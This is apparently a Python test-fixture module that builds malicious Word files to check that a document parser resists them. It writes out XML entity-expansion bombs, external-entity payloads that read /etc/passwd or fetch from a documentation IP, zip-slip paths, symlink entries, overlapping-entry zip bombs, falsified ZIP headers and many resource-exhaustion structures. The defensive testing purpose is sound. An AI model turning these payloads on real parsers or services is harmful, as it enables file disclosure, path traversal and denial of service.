"""Word files made to stop or to take what they can, and to reach what lies outside them."""

from __future__ import annotations

import io
import stat
import warnings
import zipfile
import zlib
from collections.abc import Callable

from tests.reading.sources.word_files import NAMES, OFFICE, PACKAGE, listed, lvl, numbering, p, parts, tbl, tc, zipped

LAUGHS = (
    "<!DOCTYPE w ["
    + "".join(f'<!ENTITY {a} "{f"&{b};" * 10}">' for a, b in zip("bcdefghij", "abcdefghi", strict=True))
    + '<!ENTITY a "ha">]>'
)
STOLEN = '<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
FETCHED = '<!DOCTYPE w SYSTEM "http://192.0.2.1/w.dtd">'
PARAMETERS = '<!DOCTYPE w [<!ENTITY % a SYSTEM "http://192.0.2.1/"> %a;]>'


def main_part(xml: str | bytes) -> bytes:
    return zipped({**parts(""), "word/document.xml": xml})


def declared(doctype: str, inside: str, encoding: str = "utf-8") -> bytes:
    """A document with a document type."""
    head = f'<?xml version="1.0" encoding="{encoding}"?>'
    return main_part(f"{head}{doctype}<w:document {NAMES}><w:body>{p(inside)}</w:body></w:document>".encode(encoding))


def with_entries(*more: tuple[str | zipfile.ZipInfo, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A whole file with further entries."""
    file = io.BytesIO()
    entries: list[tuple[str | zipfile.ZipInfo, str | bytes]] = [*parts(p("Protokoll")).items(), *more]
    with zipfile.ZipFile(file, "w", method) as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # of names that come twice
        for name, content in entries:
            archive.writestr(name, content)
    return file.getvalue()


def related(relation: str) -> bytes:
    """A file whose document refers to something, under the identity rx."""
    contents = parts(p("Protokoll") + '<w:sectPr><w:headerReference w:type="default" r:id="rx"/></w:sectPr>', header="")
    name = "word/_rels/document.xml.rels"
    contents[name] = contents[name].replace("</Relationships>", f'<Relationship Id="rx" {relation}/></Relationships>')
    return zipped(contents)


def styled(*pairs: tuple[str, str]) -> bytes:
    """Styles that each stand on another."""
    styles = "".join(
        f'<w:style w:styleId="{one}"><w:name w:val="{one}"/><w:basedOn w:val="{other}"/></w:style>'
        for one, other in pairs
    )
    return zipped(parts(p("Protokoll", style=pairs[0][0]), styles=styles))


def link() -> bytes:
    info = zipfile.ZipInfo("word/styles.xml")
    info.create_system, info.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    return with_entries((info, b"/etc/passwd"))


def overlapping(entries: int, kernel: int) -> bytes:
    """Many entries that all lie in the same packed bytes."""
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    content = packed.compress(b" " * kernel) + packed.flush()
    checksum = zlib.crc32(b" " * kernel)
    sizes = checksum.to_bytes(4, "little") + len(content).to_bytes(4, "little") + kernel.to_bytes(4, "little")
    name = b"word/document.xml"
    head = b"\x14\x00\x00\x00\x08\x00\x00\x00\x21\x00" + sizes + len(name).to_bytes(2, "little") + b"\x00\x00"
    local = b"PK\x03\x04" + head + name + content
    centre = b""
    for number in range(entries):
        called = b"word/%011d" % number
        centre += b"PK\x01\x02\x14\x00" + head + b"\x00" * 14 + called.ljust(len(name), b"x")
    end = b"PK\x05\x06\x00\x00\x00\x00" + entries.to_bytes(2, "little") * 2
    return local + centre + end + len(centre).to_bytes(4, "little") + len(local).to_bytes(4, "little") + b"\x00\x00"


def lying(field: int, value: int) -> bytes:
    """A file whose entries tell a wrong size: 20 is the packed one in the list, 24 the unpacked one."""
    data = bytearray(zipped(parts(p("Protokoll"))))
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + field : at + field + 4] = value.to_bytes(4, "little")
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def body(xml: str) -> Callable[[], bytes]:
    return lambda: zipped(parts(xml))


HEAVY: dict[str, Callable[[], str]] = {
    "a million empty paragraphs": lambda: "<w:p/>" * 1_000_000 + p("x"),
    "half a million paragraphs": lambda: "<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 500_000,
    "half a million cells in a row": lambda: f"<w:tbl><w:tr>{'<w:tc><w:p/></w:tc>' * 500_000}</w:tr></w:tbl>" + p("x"),
    "half a million rows": lambda: f"<w:tbl>{'<w:tr><w:tc><w:p/></w:tc><w:tc/></w:tr>' * 500_000}</w:tbl>" + p("x"),
    "a million runs": lambda: f"<w:p>{'<w:r><w:t>x</w:t></w:r>' * 1_000_000}</w:p>",
    "many tabs": lambda: f"<w:p><w:r>{'<w:tab/><w:t>x</w:t>' * 400_000}</w:r></w:p>",
    "many breaks": lambda: f"<w:p><w:r>{'<w:br/><w:t>x</w:t>' * 400_000}</w:r></w:p>",
    "many pages": lambda: p("<w:r>" + '<w:br w:type="page"/>' * 400_000 + "</w:r>") + p("x"),
    "many fields": lambda: p("<w:r>" + '<w:fldChar w:fldCharType="begin"/>' * 400_000 + "</w:r>") + p("x"),
    "one long word": lambda: p("x" * 9_000_000),
    "one long text": lambda: p("ord " * 2_000_000),
    "more elements than memory": lambda: p("x", properties="<w:i/>" * 45) * 70_000,
    "sections": lambda: p("x", properties="<w:sectPr/>") * 50_000,
    "boxes in boxes": lambda: (
        "<w:p><w:r><w:pict><v:textbox><w:txbxContent>" * 40
        + p("x")
        + "</w:txbxContent></v:textbox></w:pict></w:r></w:p>" * 40
    ),
    "controls in controls": lambda: "<w:sdt><w:sdtContent>" * 115 + p("x") + "</w:sdtContent></w:sdt>" * 115,
    "links in links": lambda: f"<w:p>{'<w:hyperlink>' * 240}<w:r><w:t>x</w:t></w:r>{'</w:hyperlink>' * 240}</w:p>",
}
HARMFUL: dict[str, Callable[[], bytes]] = {
    "laughs": lambda: declared(LAUGHS, "&j;"),
    "laughs in two bytes a letter": lambda: declared(LAUGHS, "&j;", "utf-16"),
    "laughs in the code of mainframes": lambda: declared(LAUGHS, "&j;", "cp037"),
    "a file of the server": lambda: declared(STOLEN, "&a;"),
    "a file of the server, by its styles": lambda: zipped(
        {**parts(p("Protokoll"), styles=""), "word/styles.xml": f"{STOLEN}<w:styles {NAMES}>&a;</w:styles>"}
    ),
    "a document type from elsewhere": lambda: declared(FETCHED, "Protokoll"),
    "parameters from elsewhere": lambda: declared(PARAMETERS, "Protokoll"),
    "a document type in the list of contents": lambda: zipped(
        {**parts(p("Protokoll")), "[Content_Types].xml": f"{STOLEN}<Types xmlns='{PACKAGE}/content-types'/>"}
    ),
    "included from elsewhere": lambda: main_part(
        f'<w:document {NAMES} xmlns:xi="http://www.w3.org/2001/XInclude"><w:body>'
        f'<xi:include href="file:///etc/passwd" parse="text"/>{p("Protokoll")}</w:body></w:document>'
    ),
    "a style sheet from elsewhere": lambda: main_part(
        f'<?xml-stylesheet href="http://192.0.2.1/a.xsl"?><w:document {NAMES}><w:body>{p("x")}</w:body></w:document>'
    ),
    "a header from elsewhere": lambda: related('Type="x/header" TargetMode="External" Target="http://192.0.2.1/"'),
    "a header above the file": lambda: related('Type="x/header" Target="../../../../../../etc/passwd"'),
    "a header that is the document": lambda: related('Type="x/header" Target="document.xml"'),
    "a template from elsewhere": lambda: related(
        f'Type="{OFFICE}/attachedTemplate" TargetMode="External" Target="http://192.0.2.1/a.dotm"'
    ),
    "five thousand entries": lambda: with_entries(*((f"word/media/{n}", b"") for n in range(5000))),
    "sixty thousand entries": lambda: with_entries(*((f"word/media/{n}", b"") for n in range(60_000))),
    "a gigabyte": lambda: with_entries(("word/media/a", b" " * 1_000_000_000)),
    "a document of 300 MB": lambda: main_part(b" " * 299_000_000),
    "many parts of 29 MB": lambda: with_entries(*((f"word/{n}.xml", b" " * 29_000_000) for n in range(9))),
    "entries in each other": lambda: overlapping(4000, 20_000_000),
    "entries that say they are small": lambda: lying(24, 1),
    "entries that say they are large": lambda: lying(24, 0xFFFF_FFFE),
    "entries packed in no bytes": lambda: lying(20, 0),
    "entries elsewhere in the file": lambda: lying(42, 0x7FFF_FFFF),
    "two documents of one name": lambda: with_entries(("word/document.xml", b"<w:document/>")),
    "a name that leads out": lambda: with_entries(("../../../../tmp/owned", b"x"), ("/etc/owned", b"x")),
    "a name without end": lambda: with_entries(("a" * 65_000, b"x")),
    "names of odd letters": lambda: with_entries(("\n\u202e.xml", b"x"), ("\ud7ff" * 99, b"x")),
    "a link to elsewhere": link,
    "packed by another method": lambda: with_entries(method=zipfile.ZIP_LZMA),
    "an archive in an archive in an archive": lambda: with_entries(
        ("word/embeddings/a.docx", with_entries(("a.zip", link())))
    ),
    "nothing but an end": lambda: b"PK\x05\x06" + b"\x00" * 18,
    "an end with a long comment": lambda: b"PK\x03\x04word/" + b"PK\x05\x06" * 5_000_000,
    "styles in a ring": lambda: styled(("A", "B"), ("B", "C"), ("C", "A")),
    "a style on itself": lambda: styled(("A", "A")),
    "styles in a long chain": lambda: styled(*((f"S{n}", f"S{n + 1}") for n in range(30_000))),
    "lists in a ring": lambda: zipped(
        parts(
            p("Val", properties=listed()),
            numbering='<w:abstractNum w:abstractNumId="7"><w:numStyleLink w:val="A"/></w:abstractNum>'
            '<w:num w:numId="1"><w:abstractNumId w:val="7"/></w:num>',
            styles='<w:style w:type="numbering" w:styleId="A"><w:name w:val="A"/><w:basedOn w:val="A"/><w:pPr><w:numPr>'
            '<w:numId w:val="1"/></w:numPr></w:pPr></w:style>',
        )
    ),
    "a list that begins late": lambda: zipped(
        parts(p("Val", properties=listed()) * 500, numbering=numbering(lvl(0, "upperRoman", "%1.%1.%1", start=10**18)))
    ),
    "a list of letters that grow": lambda: zipped(
        parts(p("Val", properties=listed()) * 5000, numbering=numbering(lvl(0, "lowerLetter", "%1" * 999, start=10**6)))
    ),
    "a list with a long label": lambda: zipped(
        parts(p("Val", properties=listed()) * 9000, numbering=numbering(lvl(0, "decimal", "a" * 100_000)))
    ),
    "a cell across a milliard columns": body(tbl(tc("x", properties='<w:gridSpan w:val="999999999"/>') + tc("y"))),
    "a cell down all rows": body(
        tbl(*[tc("x", properties='<w:vMerge w:val="restart"/>') + tc(properties="<w:vMerge/>")] * 20_000)
    ),
    "rows moved to the right": body(
        "<w:tbl>"
        + f'<w:tr><w:trPr><w:gridBefore w:val="999999"/></w:trPr>{tc("x")}{tc("y")}</w:tr>' * 5000
        + "</w:tbl>"
    ),
    "a hundred thousand tables in each other": lambda: main_part(
        f"<w:document {NAMES}><w:body>" + "<w:tbl><w:tr><w:tc>" * 100_000
    ),
    "elements in each other": lambda: main_part(f"<w:document {NAMES}><w:body>" + "<w:ins>" * 2_000_000),
    "a million attributes": lambda: main_part(
        f"<w:document {NAMES} "
        + " ".join(f'a{n}="{n}"' for n in range(1_000_000))
        + f"><w:body>{p('x')}</w:body></w:document>"
    ),
    "a million namespaces": lambda: main_part(
        f"<w:document {NAMES} "
        + " ".join(f'xmlns:a{n}="u{n}"' for n in range(300_000))
        + f"><w:body>{p('x')}</w:body></w:document>"
    ),
    "an attribute without end": lambda: main_part(f'<w:document {NAMES} a="{"a" * 25_000_000}"><w:body/></w:document>'),
    "many columns": body("<w:p>" + "<w:r><w:tab/></w:r>" * 300_000 + "</w:p>"),
    "a ring of alternatives": body(
        "<mc:AlternateContent><mc:Choice>" * 120 + p("x") + "</mc:Choice></mc:AlternateContent>" * 120
    ),
    "notes that refer to themselves": lambda: zipped(
        parts(
            p('<w:r><w:footnoteReference w:id="2"/></w:r>') * 20_000,
            footnotes='<w:footnote w:id="2">'
            + p("Not", '<w:r><w:footnoteReference w:id="2"/></w:r>')
            + "</w:footnote>",
        )
    ),
    "heads that multiply": lambda: zipped(
        parts(
            (p("x") + '<w:sectPr><w:headerReference w:type="default" r:id="rheader"/></w:sectPr>') * 2000,
            header=p("Protokoll") * 2000,
        )
    ),
    "codes of fields in each other": body(
        p("<w:r>" + '<w:fldChar w:fldCharType="begin"/><w:instrText> IF </w:instrText>' * 100_000 + "</w:r>", "x")
    ),
}


def written(xml: Callable[[], str]) -> Callable[[], bytes]:
    return lambda: zipped(parts(xml()))


FILES: dict[str, Callable[[], bytes]] = {name: written(xml) for name, xml in HEAVY.items()} | HARMFUL
